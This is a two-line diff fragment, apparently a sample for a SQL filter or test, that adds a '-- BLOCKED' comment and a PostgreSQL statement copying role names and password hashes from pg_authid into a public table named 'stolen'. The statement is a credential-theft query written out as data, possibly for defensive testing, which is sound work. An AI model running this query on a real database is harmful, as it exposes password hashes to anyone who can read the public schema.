@@ -1,0 +1,2 @@
+-- BLOCKED
+CREATE TABLE public.stolen AS SELECT rolname, rolpassword FROM pg_authid;
